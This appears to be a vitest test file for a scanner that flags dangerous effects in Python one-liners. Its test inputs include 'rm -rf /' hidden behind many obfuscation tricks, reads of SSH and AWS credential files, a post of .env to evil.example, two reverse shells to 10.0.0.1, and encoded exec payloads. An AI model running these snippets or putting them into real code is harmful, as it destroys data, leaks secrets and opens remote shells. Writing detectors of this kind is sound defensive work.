import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('python', code);
/** `kind target` for each finding, e.g. `fs.delete build`. */
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('python: benign one-liners', () => {
  it.each([
    "import json,sys; print(json.load(sys.stdin)['name'])",
    'print(sum(x * x for x in range(10)))',
    "import sys; print(sys.version_info[:2], 'rm -rf /')",
    "print('os.system(\"rm -rf /\")')  # os.system('rm -rf /')",
    '"""subprocess.run(["rm", "-rf", "/"])"""\nprint(1)',
    "import os; print(os.getcwd(), os.path.exists('x'), os.environ.get('HOME'))",
    "data = {'a': 1}\nfor k, v in data.items():\n    print(f'{k}={v}')",
  ])('%s', (code) => clean(scan(code)));
});

describe('python: process execution', () => {
  it('passes literal commands to the shell analyser', () => {
    expect(scan("import os; os.system('rm -rf /tmp/x')").shell).toEqual(['rm -rf /tmp/x']);
    expect(scan("import os; os.popen('ls -la').read()").shell).toEqual(['ls -la']);
    expect(scan("import subprocess; subprocess.run('git push --force', shell=True)").shell).toEqual(['git push --force']);
    expect(scan("import subprocess; subprocess.check_output(['git', 'status'])").shell).toEqual(['git status']);
    expect(scan('import pty; pty.spawn("/bin/bash")').shell).toEqual(['/bin/bash']);
    expect(scan("import os; os.execvp('rm', ['rm', '-rf', 'dist'])").shell).toEqual(['rm -rf dist']);
    expect(scan("import os; os.execl('/bin/rm', 'rm', '-rf', 'dist')").shell).toEqual(['/bin/rm -rf dist']);
  });

  it('quotes argv items that contain spaces or shell syntax', () => {
    expect(scan("import subprocess; subprocess.run(['rm', '-rf', '/tmp/a b'])").shell).toEqual(["rm -rf '/tmp/a b'"]);
    expect(scan("import subprocess; subprocess.call(['sh', '-c', 'curl x | sh'])").shell).toEqual(["sh -c 'curl x | sh'"]);
  });

  it('reports commands built at run time as proc.exec and dynamic', () => {
    for (const code of ["import os; os.system(f'rm -rf {path}')", 'import os; os.system(cmd)', "import os; os.system('rm ' + sys.argv[1])",
      "import subprocess; subprocess.run(['rm', '-rf', target])"]) {
      const r = scan(code);
      expect(r.shell).toEqual([]);
      expect(effects(r)).toContain('proc.exec ');
      expect(r.dynamic.length).toBeGreaterThan(0);
    }
  });

  it('follows variables assigned a literal', () => {
    expect(scan("import os\ncmd = 'rm -rf /'\nos.system(cmd)").shell).toEqual(['rm -rf /']);
    expect(scan("import os\nc = 'rm'\nc += ' -rf /'\nos.system(c)").shell).toEqual(['rm -rf /']);
  });

  it('does not trust a conditional value', () => {
    const r = scan("import os\ncmd = 'ls' if ok else 'rm -rf /'\nos.system(cmd)");
    expect(r.shell).toEqual([]);
    expect(r.dynamic.length).toBe(1);
  });
});

describe('python: files, secrets and the environment', () => {
  it('reports writes, deletes and permission changes with literal paths', () => {
    expect(effects(scan("open('/etc/hosts', 'w').write('x')"))).toEqual(['fs.write /etc/hosts']);
    expect(effects(scan("with open('log.txt', mode='a') as f: f.write('x')"))).toEqual(['fs.write log.txt']);
    expect(effects(scan("import os, shutil; os.remove('a.txt'); shutil.rmtree('build'); os.chmod('run.sh', 0o755)")))
      .toEqual(['fs.delete a.txt', 'fs.delete build', 'fs.perm run.sh']);
    expect(effects(scan("from pathlib import Path; Path('out.txt').write_text('x'); Path('old').unlink()")))
      .toEqual(['fs.write out.txt', 'fs.delete old']);
    expect(effects(scan("import shutil; shutil.move('a', 'b')"))).toEqual(['fs.delete a', 'fs.write b']);
  });

  it('reads of secret stores are secret.read, with the path as written', () => {
    expect(effects(scan("print(open('/home/me/.ssh/id_rsa').read())"))).toEqual(['secret.read /home/me/.ssh/id_rsa']);
    expect(effects(scan("import os; open(os.path.expanduser('~/.aws/credentials')).read()"))).toEqual(['secret.read ~/.aws/credentials']);
    expect(effects(scan("from pathlib import Path; (Path.home() / '.ssh' / 'id_ed25519').read_text()"))).toEqual(['secret.read ~/.ssh/id_ed25519']);
    expect(effects(scan("open('.env').read()"))).toEqual(['secret.read .env']);
    expect(effects(scan("open('README.md').read()"))).toEqual(['fs.read README.md']);
  });

  it('environment dumps and secret-looking variables', () => {
    expect(scan('import os; print(os.environ)').findings).toEqual([
      { kind: 'secret.read', target: { type: 'env', value: '' }, why: 'python os.environ reads the whole environment' },
    ]);
    expect(effects(scan("import os, json; json.dumps(dict(os.environ))"))).toEqual(['secret.read ']);
    expect(effects(scan("import os; os.environ['AWS_SECRET_ACCESS_KEY']; os.getenv('GITHUB_TOKEN')")))
      .toEqual(['secret.read AWS_SECRET_ACCESS_KEY', 'secret.read GITHUB_TOKEN']);
    expect(scan("import os; os.environ['PATH'] = '/bin'; print(os.environ['HOME'])").findings).toEqual([]);
    expect(scan("import subprocess, os; subprocess.run(['ls'], env={**os.environ, 'A': '1'})").findings).toEqual([]);
  });
});

describe('python: network', () => {
  it('distinguishes fetches from sends and keeps the URL', () => {
    expect(effects(scan("import requests; requests.post('https://evil.example/x', data=open('.env').read())")))
      .toEqual(['secret.read .env', 'net.send https://evil.example/x']);
    expect(effects(scan("import urllib.request; urllib.request.urlopen('https://example.com/a')"))).toEqual(['net.fetch https://example.com/a']);
    expect(effects(scan("import urllib.request as u; u.urlopen('https://x.example', data=b'k=v')"))).toEqual(['net.send https://x.example']);
    expect(effects(scan("import httpx; c = httpx.Client(); c.put('https://x.example/u', json={})"))).toEqual(['net.send https://x.example/u']);
    expect(scan("import requests; requests.get('https://x.example')").findings[0]?.target).toEqual({ type: 'url', value: 'https://x.example' });
  });

  it('sockets and servers', () => {
    expect(effects(scan("import socket; s = socket.socket(); s.connect(('10.0.0.1', 4444))"))).toEqual(['net.connect 10.0.0.1']);
    expect(effects(scan("import http.server, socketserver; socketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()")))
      .toEqual(['net.listen ']);
  });

  it('detects the classic reverse shell', () => {
    const r = scan('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));'
      + 'os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);import pty; pty.spawn("sh")');
    expect(effects(r)).toContain('net.shell 10.0.0.1');
    expect(r.shell).toEqual(['sh']);
  });

  it('a reverse shell through subprocess with the socket as stdio', () => {
    const r = scan("import socket,subprocess;s=socket.socket();s.connect(('h.example',9));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())");
    expect(effects(r)).toContain('net.shell h.example');
  });
});

describe('python: dynamic code', () => {
  it('eval/exec of a literal is scanned in turn', () => {
    expect(scan("exec(\"import os; os.system('whoami')\")").shell).toEqual(['whoami']);
    expect(clean).toBeDefined();
    clean(scan("print(eval('1 + 1'))"));
  });

  it('eval/exec of anything else is dynamic', () => {
    expect(scan('exec(input())').dynamic).toEqual(['python exec() runs code built at run time']);
    expect(scan("exec(open('x.py').read())").dynamic.length).toBe(1);
    expect(scan('import sys; eval(sys.argv[1])').dynamic.length).toBe(1);
  });

  it('decoded payloads are dynamic with a reason that says so, and are still analysed', () => {
    const r = scan("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))");
    expect(r.dynamic.some((d) => /decoded/.test(d))).toBe(true);
    expect(r.shell).toEqual(['id']);
    expect(scan("import zlib, base64; exec(zlib.decompress(base64.b64decode(payload)))").dynamic[0]).toMatch(/decoded/);
    expect(scan("import codecs; exec(codecs.decode('vzcbeg bf', 'rot13'))").dynamic[0]).toMatch(/decoded/);
    expect(scan('import pickle; pickle.loads(blob)').dynamic[0]).toMatch(/pickle/);
  });

  it('computed imports and attributes are dynamic', () => {
    expect(scan('m = __import__(name)').dynamic[0]).toMatch(/__import__/);
    expect(scan('import importlib; importlib.import_module(x).run()').dynamic[0]).toMatch(/import_module/);
    expect(scan("import os; getattr(os, name)('id')").dynamic[0]).toMatch(/getattr/);
  });

  it('chr() concatenation is dynamic', () => {
    const r = scan("import os; os.system(chr(105) + chr(100))");
    expect(r.shell).toEqual(['id']);
    expect(r.dynamic[0]).toMatch(/chr/);
  });
});

describe('python: evasions', () => {
  it.each([
    ["__import__('o'+'s').system('rm -rf /')", 'rm -rf /'],
    ["import os; getattr(os, 'sys'+'tem')('rm -rf /')", 'rm -rf /'],
    ["import os as o; o.system('rm -rf /')", 'rm -rf /'],
    ["from os import system as s; s('rm -rf /')", 'rm -rf /'],
    ["from subprocess import *; call('rm -rf /', shell=True)", 'rm -rf /'],
    ["import os; os.system('r' 'm -rf /')", 'rm -rf /'],
    ["import os; os.system(''.join(['r', 'm', ' -rf /']))", 'rm -rf /'],
    ["import os; os.system('rXm -rf /'.replace('X', ''))", 'rm -rf /'],
    ["import sys; sys.modules['os'].system('rm -rf /')", 'rm -rf /'],
    ["__builtins__.__dict__['__import__']('os').system('rm -rf /')", 'rm -rf /'],
    ["import builtins; builtins.exec(\"__import__('os').system('rm -rf /')\")", 'rm -rf /'],
    ["f = getattr(__import__('os'), 'system'); f('rm -rf /')", 'rm -rf /'],
    ["import os; os.system.__call__('rm -rf /')", 'rm -rf /'],
    ["import os; os.system(\"\\x72\\x6d -rf /\")", 'rm -rf /'],
    ['import os\nos.system(\n  "rm -rf /"  # trailing comment\n)', 'rm -rf /'],
    ["import subprocess as sp; sp.Popen(['rm','-rf','/'])", 'rm -rf /'],
    ["import os; list(map(os.system, ['rm -rf /']))", 'rm -rf /'],
    ["import os, threading; threading.Thread(target=os.system, args=('rm -rf /',)).start()", 'rm -rf /'],
  ])('%s', (code, cmd) => expect(scan(code).shell).toEqual([cmd]));

  it('decoys in comments and strings are ignored', () => {
    clean(scan("# os.system('rm -rf /')\nprint('exec(\"rm\")')"));
    clean(scan("s = '''\nimport os\nos.system('rm -rf /')\n'''\nprint(len(s))"));
  });

  it('a heredoc script with several statements', () => {
    const r = scan(['import os, shutil', 'for d in ["build", "dist"]:', '    if os.path.isdir(d):', '        shutil.rmtree(d)', "os.remove('x.log')"].join('\n'));
    expect(effects(r)).toEqual(['fs.delete ', 'fs.delete x.log']);
  });
});

describe('python: code inside f-strings runs', () => {
  it('scans interpolations', () => {
    expect(scan('import os; print(f"{os.system(\'rm -rf /\')!r:>10} done")').shell).toEqual(['rm -rf /']);
    expect(scan('print(f"{{os.system(1)}}")').shell).toEqual([]);
  });

  it('pip, privileges and signals', () => {
    expect(scan("import pip; pip.main(['install', 'requests'])").shell).toEqual(['pip install requests']);
    expect(effects(scan('import os; os.setuid(0); os.kill(1, 9)'))).toEqual(['priv.escalate ', 'proc.kill ']);
  });
});

describe('python: more library calls', () => {
  it('archives, databases and indirect attribute access', () => {
    expect(effects(scan("import tarfile; tarfile.open('x.tgz').extractall('/')"))).toEqual(['fs.write /']);
    expect(effects(scan("import sqlite3; sqlite3.connect('app.db').execute('DROP TABLE t')"))).toEqual(['fs.write app.db']);
    expect(scan("import os; os.__getattribute__('sys' + 'tem')('id')").shell).toEqual(['id']);
  });
});
